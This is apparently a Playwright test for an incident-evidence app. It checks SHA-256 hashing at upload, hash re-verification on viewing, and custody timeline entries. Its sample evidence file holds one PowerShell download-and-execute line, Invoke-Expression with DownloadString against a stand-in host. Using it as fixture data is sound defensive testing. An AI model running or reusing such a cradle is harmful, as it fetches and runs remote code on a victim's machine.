import { createHash } from 'node:crypto';
import { ADMIN, expect, test } from './fixtures';

test('an uploaded file shows the SHA-256 computed at intake', async ({ page, openApp, setup, list, detail }) => {
  await openApp();
  await setup.createVault(ADMIN.name, ADMIN.passphrase);
  await setup.acknowledgeRecoveryKey();
  await list.create({ title: 'Malware on workstation', severity: 'SEV2', category: 'Malware' });

  const content = Buffer.from(`suspicious.ps1 captured ${Date.now()}\nInvoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\n`);
  const sha256 = createHash('sha256').update(content).digest('hex');
  await detail.evidence.getByLabel('Add evidence files').setInputFiles({ name: 'suspicious.ps1', mimeType: 'text/plain', buffer: content });

  const item = detail.evidence.getByTestId('evidence-item').filter({ hasText: 'suspicious.ps1' });
  await expect(item).toBeVisible();
  await expect(item.getByTitle(sha256)).toBeVisible();
  await expect(item.getByTitle(sha256)).toHaveText(`${sha256.slice(0, 12)}…${sha256.slice(-8)}`);
  await detail.timelineEntry('Added evidence suspicious.ps1');

  // Viewing re-verifies the hash and is a custody event on the timeline.
  await item.getByRole('button', { name: 'View suspicious.ps1' }).click();
  const viewer = page.getByRole('dialog', { name: 'suspicious.ps1' });
  await expect(viewer.getByText(/SHA-256 recomputed on read and matches/)).toBeVisible();
  await expect(viewer.locator('pre')).toContainText('Invoke-Expression');
  await viewer.getByRole('button', { name: 'Close' }).click();
  await detail.timelineEntry('Viewed evidence suspicious.ps1');

  const download = page.waitForEvent('download');
  await item.getByRole('button', { name: 'Download suspicious.ps1' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('suspicious.ps1');
  await detail.timelineEntry('Exported evidence suspicious.ps1');
});
